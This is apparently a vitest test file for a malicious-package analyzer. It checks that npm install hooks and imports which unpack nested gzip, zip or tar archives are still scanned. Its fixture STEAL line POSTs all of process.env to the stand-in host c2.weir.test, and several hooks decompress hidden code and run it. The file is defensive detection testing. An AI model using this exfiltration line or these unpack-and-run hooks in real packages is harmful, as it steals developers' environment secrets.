import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { AnalysisResult } from '@weir/model';
import { tarball, zip } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { analyzeFile } from './analyze-file.ts';

const STEAL = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;
const dir = mkdtempSync(join(tmpdir(), 'weir-nested-files-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A package whose install script is `hook`, with one more file in it. */
function analyze(hook: string, file: string, content: Uint8Array): Promise<AnalysisResult> {
  return analyzePackage({ scripts: { postinstall: hook } }, { [file]: content });
}

async function analyzePackage(
  fields: object,
  files: Readonly<Record<string, string | Uint8Array>>,
): Promise<AnalysisResult> {
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', ...fields });
  const path = join(dir, 'x.tgz');
  const packed = tarball().file('package/package.json', manifest);
  for (const [file, content] of Object.entries(files)) packed.file(`package/${file}`, content);
  writeFileSync(path, packed.build());
  return analyzeFile(
    { path, filename: 'x.tgz', ecosystem: 'npm', context: null },
    { rulesetVersion: 'test', now: () => performance.now() },
  );
}

describe('what an install script unpacks', () => {
  test.each([
    ['gunzip -c data.gz > setup.js && node setup.js', 'data.gz', gzipSync(STEAL)],
    ['zcat assets/logo.png | node', 'assets/logo.png', gzipSync(STEAL)],
    ['zcat data | zcat | node', 'data', gzipSync(gzipSync(STEAL))],
    ['unzip -o data.bin && node setup.js', 'data.bin', zip().file('setup.js', STEAL).build()],
    [
      'unzip -o a.zip && tar xf b && node setup.js',
      'a.zip',
      zip().file('b', tarball().file('setup.js', STEAL).build()).build(),
    ],
  ])('is analysed, whatever its name: %s', async (hook, path, content) => {
    const result = await analyze(hook, path, content);

    expect(result.findings[0]).toMatchObject({ rule: 'env-to-network/environment', stage: 'install' });
    expect(result.judgement.verdict).toBe('malicious');
  });

  test('is unread where it goes deeper than is followed', async () => {
    let bytes: Buffer = Buffer.from(STEAL);
    for (let i = 0; i < 20; i++) bytes = gzipSync(bytes);

    const result = await analyze('./unpack data', 'data', bytes);

    expect(result.findings.map(({ rule }) => rule)).toContain('analysis/archive-budget-depth');
    expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
  });

  test('is no container when its bytes are none', async () => {
    const result = await analyze('node-gyp-build data', 'data', Buffer.from('plain words'));

    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
  });
});

describe('what an import unpacks', () => {
  const TAR = tarball().file('setup.js', STEAL).build();

  test.each([
    [`require('child_process').execSync('tar xf a.tar && node setup.js');\n`, 'a.tar', TAR],
    [
      `const Zip = require('adm-zip');\nnew Zip(__dirname + '/a.zip').extractAllTo('/tmp/z');\nrequire('/tmp/z/setup.js');\n`,
      'a.zip',
      zip().file('setup.js', STEAL).build(),
    ],
    [
      `new Function(require('zlib').gunzipSync(require('fs').readFileSync('a.gz')))();\n`,
      'a.gz',
      gzipSync(STEAL),
    ],
  ])('is analysed: %s', async (code, path, content) => {
    const { findings } = await analyzePackage({ main: 'i.js' }, { 'i.js': code, [path]: content });

    expect(findings.map(({ rule, stage }) => `${stage} ${rule}`)).toContain(
      'import env-to-network/environment',
    );
  });

  test.each([
    ['that nothing names', `module.exports = 1;\n`, 'a.tar', TAR],
    [
      'of data',
      `exports.load = () => require('zlib').gunzipSync(require('fs').readFileSync(__dirname + '/words.csv.gz'));\n`,
      'words.csv.gz',
      gzipSync(`name,code\nx,${STEAL}`, {}),
    ],
    [
      'that is not opened, and that no code could run',
      `exports.at = require('path').join(__dirname, 'chrome.br');\n`,
      'chrome.br',
      new Uint8Array(100).fill(7),
    ],
  ])('is its own affair: a container %s', async (_name, code, path, content) => {
    const result = await analyzePackage({ main: 'i.js' }, { 'i.js': code, [path]: content });

    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
  });
});
